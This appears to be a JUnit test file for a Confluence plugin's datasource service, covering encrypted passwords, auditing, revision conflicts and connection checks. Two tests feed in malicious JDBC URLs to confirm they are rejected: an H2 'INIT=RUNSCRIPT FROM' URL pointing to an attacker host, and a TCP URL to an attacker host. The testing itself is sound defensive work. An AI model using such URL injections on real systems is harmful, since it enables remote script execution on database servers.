package com.sqltables.confluence.datasource;

import com.atlassian.sal.api.ApplicationProperties;
import com.sqltables.confluence.ConflictException;
import com.sqltables.confluence.NotFoundException;
import com.sqltables.confluence.ValidationException;
import com.sqltables.confluence.ao.testing.TestDatabase;
import com.sqltables.confluence.audit.AuditEvent;
import com.sqltables.confluence.audit.ao.AuditLogStore;
import com.sqltables.confluence.audit.ao.DefaultAuditLogStore;
import com.sqltables.confluence.datasource.ao.DatasourceStore;
import com.sqltables.confluence.datasource.ao.DefaultDatasourceStore;
import com.sqltables.confluence.datasource.pool.DatasourcePools;
import com.sqltables.confluence.datasource.security.DatasourcePasswords;
import com.sqltables.confluence.query.SavedQuerySettings;
import com.sqltables.confluence.query.ao.DefaultSavedQueryStore;
import com.sqltables.confluence.query.ao.SavedQueryStore;
import com.sqltables.confluence.query.execution.ConnectionTester;
import com.sqltables.confluence.testing.PropertiesI18nResolver;
import com.sqltables.host.ao.HostActiveObjects;
import org.junit.After;
import org.junit.Before;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.util.List;
import java.util.Optional;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertNull;
import static org.junit.Assert.assertThrows;
import static org.junit.Assert.assertTrue;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.when;

/** {@link DefaultDatasourceService} on the real stores (H2), the real cipher and the real connection tester. */
public class DefaultDatasourceServiceTest {
    private static final String ACTOR = "admin-key";

    @Rule
    public TemporaryFolder folder = new TemporaryFolder();

    private HostActiveObjects ao;
    private DatasourceStore store;
    private SavedQueryStore savedQueries;
    private AuditLogStore audit;
    private DatasourcePasswords passwords;
    private DefaultDatasourceService service;
    private DatasourcePools pools;

    @After
    public void tearDown() {
        pools.destroy();
    }

    @Before
    public void setUp() throws Exception {
        ao = TestDatabase.H2.activeObjects();
        TestDatabase.H2.clean();
        store = new DefaultDatasourceStore(ao);
        savedQueries = new DefaultSavedQueryStore(ao);
        audit = new DefaultAuditLogStore(ao);
        passwords = new DatasourcePasswords(homes(folder.newFolder("shared").toPath()));
        pools = new DatasourcePools(store, passwords);
        service = new DefaultDatasourceService(ao, store, savedQueries, audit, passwords,
                new ConnectionTester(new PropertiesI18nResolver()), pools);
    }

    private static ApplicationProperties homes(Path shared) {
        ApplicationProperties properties = mock(ApplicationProperties.class);
        when(properties.getSharedHomeDirectory()).thenReturn(Optional.ofNullable(shared));
        when(properties.getLocalHomeDirectory()).thenReturn(Optional.empty());
        return properties;
    }

    private static DatasourceSettings.Builder settings(String name) {
        return DatasourceSettings.builder().name(name).connectionKind(ConnectionKind.H2).jdbcUrl("jdbc:h2:mem:" + name);
    }

    private List<AuditEvent> auditEvents() {
        return audit.list(0, 100).getItems();
    }

    @Test
    public void create_withPassword_storesCiphertextBoundToTheNewId_andAuditsWithoutThePassword() {
        Datasource created = service.create(settings("sales").passwordCiphertext("ignored-ciphertext").build(), "Pa55-word", ACTOR);

        Datasource stored = store.get(created.getId()).orElseThrow();
        assertEquals(created, stored);
        assertFalse(stored.getSettings().getPasswordCiphertext().contains("Pa55-word"));
        assertEquals("Pa55-word", passwords.decrypt(stored));
        List<AuditEvent> events = auditEvents();
        assertEquals(1, events.size());
        assertEquals("datasource.create", events.get(0).getEntry().getAction());
        assertEquals(ACTOR, events.get(0).getEntry().getActorUserKey());
        assertEquals(String.valueOf(created.getId()), events.get(0).getEntry().getObjectId());
        assertTrue(events.get(0).getEntry().getDetails(), events.get(0).getEntry().getDetails().endsWith("password set"));
        assertFalse(events.get(0).toString().contains("Pa55-word"));
        assertFalse(events.get(0).toString().contains(stored.getSettings().getPasswordCiphertext()));
    }

    @Test
    public void create_withoutPassword_storesNone_andIgnoresAnyCiphertextPassedIn() {
        Datasource created = service.create(settings("sales").passwordCiphertext("forged").build(), "", ACTOR);
        assertNull(store.get(created.getId()).orElseThrow().getSettings().getPasswordCiphertext());
    }

    @Test
    public void create_whenThePasswordCannotBeEncrypted_storesNothing() {
        DefaultDatasourceService noKey = new DefaultDatasourceService(ao, store, savedQueries, audit,
                new DatasourcePasswords(homes(null)), new ConnectionTester(new PropertiesI18nResolver()), pools);

        assertThrows(RuntimeException.class, () -> noKey.create(settings("sales").build(), "secret", ACTOR));

        assertTrue("the insert and the password are one transaction", store.list().isEmpty());
        assertTrue(auditEvents().isEmpty());
    }

    @Test
    public void create_dangerousUrl_isRejectedOnTheUrlField_beforeAnythingIsStored() {
        ValidationException e = assertThrows(ValidationException.class, () -> service.create(
                settings("sales").jdbcUrl("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker/x.sql'").build(), null, ACTOR));

        assertTrue(e.getFieldErrors().toString(), e.getFieldErrors().containsKey("jdbcUrl"));
        assertTrue(store.list().isEmpty());
        assertTrue(auditEvents().isEmpty());
    }

    @Test
    public void update_emptyPassword_keepsTheStoredOne_andAuditsTheChangedFieldsOnly() {
        Datasource created = service.create(settings("sales").build(), "first", ACTOR);

        Datasource updated = service.update(created.getId(), created.getRevision(),
                settings("sales").poolSize(9).description("monthly figures").build(), "", ACTOR);

        assertEquals(created.getSettings().getPasswordCiphertext(), updated.getSettings().getPasswordCiphertext());
        assertEquals("first", passwords.decrypt(updated));
        assertEquals("changed: description, poolSize", auditEvents().get(0).getEntry().getDetails());
    }

    @Test
    public void update_newPassword_replacesIt_andTheAuditSaysSoWithoutIt() {
        Datasource created = service.create(settings("sales").build(), "first", ACTOR);

        Datasource updated = service.update(created.getId(), created.getRevision(), settings("sales").build(), "second", ACTOR);

        assertEquals("second", passwords.decrypt(updated));
        assertEquals("changed: password", auditEvents().get(0).getEntry().getDetails());
    }

    @Test
    public void update_staleRevision_isAConflict_andChangesNothing() {
        Datasource created = service.create(settings("sales").build(), null, ACTOR);
        Datasource first = service.update(created.getId(), created.getRevision(), settings("first").build(), null, ACTOR);
        int auditBefore = auditEvents().size();

        assertThrows(ConflictException.class, () ->
                service.update(created.getId(), created.getRevision(), settings("second").build(), "pw", ACTOR));

        assertEquals(first, store.get(created.getId()).orElseThrow());
        assertEquals(auditBefore, auditEvents().size());
    }

    @Test
    public void update_missing_isNotFound() {
        assertThrows(NotFoundException.class, () -> service.update(424242, 1, settings("x").build(), null, ACTOR));
    }

    @Test
    public void delete_whileSavedQueriesUseIt_isAConflictNamingThem() {
        Datasource ds = service.create(settings("sales").build(), null, ACTOR);
        savedQueries.create(new SavedQuerySettings("revenue", ds.getId(), "SELECT 1", null, null), ACTOR);
        savedQueries.create(new SavedQuerySettings("costs", ds.getId(), "SELECT 2", null, null), ACTOR);

        ConflictException e = assertThrows(ConflictException.class, () -> service.delete(ds.getId(), ACTOR));

        assertTrue(e.getMessage(), e.getMessage().contains("used by 2 saved queries ('costs', 'revenue')"));
        assertTrue(store.get(ds.getId()).isPresent());
    }

    @Test
    public void delete_unused_removesIt_andAuditsIt() {
        Datasource ds = service.create(settings("sales").build(), null, ACTOR);

        service.delete(ds.getId(), ACTOR);

        assertFalse(store.get(ds.getId()).isPresent());
        assertEquals("datasource.delete", auditEvents().get(0).getEntry().getAction());
        assertEquals("sales", auditEvents().get(0).getEntry().getObjectName());
    }

    @Test
    public void list_countsTheSavedQueriesOfEachDatasource() {
        Datasource a = service.create(settings("a").build(), null, ACTOR);
        Datasource b = service.create(settings("b").build(), null, ACTOR);
        savedQueries.create(new SavedQuerySettings("q", a.getId(), "SELECT 1", null, null), ACTOR);

        List<DatasourceService.DatasourceUsage> list = service.list();

        assertEquals(2, list.size());
        assertEquals(a, list.get(0).getDatasource());
        assertEquals(1, list.get(0).getSavedQueryCount());
        assertEquals(b, list.get(1).getDatasource());
        assertEquals(0, list.get(1).getSavedQueryCount());
    }

    @Test
    public void testConnection_savedDatasource_emptyPassword_usesTheStoredOne() throws Exception {
        String url = "jdbc:h2:mem:owned;DB_CLOSE_DELAY=-1";
        try (Connection keepAlive = DriverManager.getConnection(url, "owner", "owner-pw")) {
            Datasource ds = service.create(settings("owned").jdbcUrl(url).username("owner").readOnly(false).build(), "owner-pw", ACTOR);

            ConnectionCheck stored = service.testConnection(ds.getSettings(), "", ds.getId());
            ConnectionCheck typed = service.testConnection(ds.getSettings(), "not-the-password", ds.getId());

            assertTrue(stored.toString(), stored.isSuccess());
            assertTrue(stored.getDatabaseProduct().orElseThrow().startsWith("H2 "));
            assertTrue(stored.getRoundTripMillis() >= 0);
            assertFalse(typed.isSuccess());
            assertEquals(Optional.of("AUTHENTICATION_FAILED"), typed.getFailure());
            assertFalse(typed.getMessage().contains("not-the-password"));
        }
    }

    @Test
    public void testConnection_readOnlyDatasourceWhoseAccountCanWrite_warns_readWriteDoesNot() {
        DatasourceSettings readOnly = settings("probe").jdbcUrl("jdbc:h2:mem:probe").username("sa").readOnly(true).build();

        ConnectionCheck warned = service.testConnection(readOnly, null, null);
        ConnectionCheck quiet = service.testConnection(readOnly.toBuilder().readOnly(false).build(), null, null);

        assertTrue(warned.toString(), warned.isSuccess());
        assertTrue("H2's sa may change data", warned.getWriteWarning().isPresent());
        assertFalse(quiet.getWriteWarning().isPresent());
    }

    @Test
    public void testConnection_dangerousUrl_isRejectedWithoutConnecting() {
        assertThrows(ValidationException.class, () -> service.testConnection(
                settings("x").jdbcUrl("jdbc:h2:tcp://attacker:9092/x").build(), null, null));
    }

    @Test
    public void update_retiresThisNodesPool_soTheNextQueryUsesTheNewSettings() throws Exception {
        Datasource ds = service.create(settings("pooled").jdbcUrl("jdbc:h2:mem:pooled;DB_CLOSE_DELAY=-1").username("sa").build(),
                null, ACTOR);
        try (DatasourcePools.Lease lease = pools.lease(ds)) {
            assertTrue(lease.getConnection().isValid(1));
        }
        assertTrue(service.list().get(0).getPoolStats() != null);

        service.update(ds.getId(), ds.getRevision(), ds.getSettings().toBuilder().poolSize(2).build(), null, ACTOR);

        assertNull(service.list().get(0).getPoolStats());
    }

    @Test
    public void update_changedUrlWithoutPassword_isRefused_soTheStoredPasswordNeverGoesToANewHost() {
        Datasource ds = service.create(settings("sales").build(), "stored", ACTOR);

        ValidationException e = assertThrows(ValidationException.class, () -> service.update(ds.getId(), ds.getRevision(),
                settings("sales").jdbcUrl("jdbc:h2:mem:elsewhere").build(), "", ACTOR));
        ValidationException test = assertThrows(ValidationException.class, () -> service.testConnection(
                settings("sales").jdbcUrl("jdbc:h2:mem:elsewhere").build(), "", ds.getId()));

        assertTrue(e.getFieldErrors().containsKey(DefaultDatasourceService.PASSWORD_FIELD));
        assertTrue(test.getFieldErrors().containsKey(DefaultDatasourceService.PASSWORD_FIELD));
        assertEquals(ds, store.get(ds.getId()).orElseThrow());
        Datasource moved = service.update(ds.getId(), ds.getRevision(), settings("sales").jdbcUrl("jdbc:h2:mem:elsewhere").build(),
                "retyped", ACTOR);
        assertEquals("retyped", passwords.decrypt(moved));
    }
}
